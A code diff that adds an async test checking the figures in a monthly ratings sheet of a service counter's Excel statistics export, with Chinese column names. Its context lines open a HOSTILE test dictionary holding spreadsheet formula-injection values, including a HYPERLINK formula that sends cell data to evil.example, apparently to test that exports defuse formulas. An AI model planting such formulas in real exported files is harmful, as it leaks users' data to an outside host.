@@ -196,6 +196,39 @@ async def test_the_hall_sheets_read_back_with_the_figures_of_known_tickets(clien
     await logout(client)
 
 
+async def test_the_rating_sheet_reads_back_with_the_figures_of_known_ratings(client, db):
+    """Ten ratings with known follow-ups (tests/support/rating_month.py works the numbers out)."""
+    from tests.support.rating_month import MONTH, known_rating_month
+
+    known = await known_rating_month(db)
+    await login(client, known["manager"]["username"])
+    response = await client.get(f"/counter/stats/export.xlsx?month={MONTH}")
+    assert response.status_code == 200
+    book = load_workbook(io.BytesIO(response.content))
+    sheet = check_sheet(book["好差评"])
+    h = sheet["header"]
+    rows = {(r[h["分组"]], r[h["名称"]]): r for r in sheet["body"]}
+
+    def figures(row) -> tuple:
+        return tuple(row[h[c]] for c in ("评价", "好评", "差评", "好评率(%)", "核实属实率(%)", "整改率(%)",
+                                         "按期整改率(%)", "回访率(%)"))
+
+    assert figures(sheet["total"]) == (8, 4, 4, 50.0, 66.7, 100.0, 50.0, 25.0)
+    assert figures(rows[("社工", "张敏")]) == (4, 4, 0, 100.0, None, None, None, 50.0)  # empty cells, not 0
+    assert figures(rows[("社工", "李华")]) == (4, 0, 4, 0.0, 66.7, 100.0, 50.0, 0.0)
+    assert figures(rows[("窗口", "1号窗口")])[:4] == (3, 3, 0, 100.0)
+    assert figures(rows[("窗口", "2号窗口")])[:4] == (4, 0, 4, 0.0)
+    assert ("窗口", "（未记录窗口）") in rows
+    # Each rating counts once per grouping: the workers' and the windows' ratings add up to the period's.
+    for group in ("社工", "窗口"):
+        for column in ("评价", "好评", "差评", "核实属实", "已整改", "回访"):
+            assert sum(r[h[column]] for k, r in rows.items() if k[0] == group) == sheet["total"][h[column]], (
+                group, column)
+    notes = {r[0]: r[1] for r in check_sheet(book["汇总"])["body"]}
+    assert notes["好评率口径"] == "非常满意、满意、基本满意 ÷ 全部评价" and notes["好差评计入"] == "申诉成立的评价不计入"
+    await logout(client)
+
+
 HOSTILE = {
     "item": '=HYPERLINK("http://evil.example/x?"&C2,"打开")',
     "resident": "=1+2",
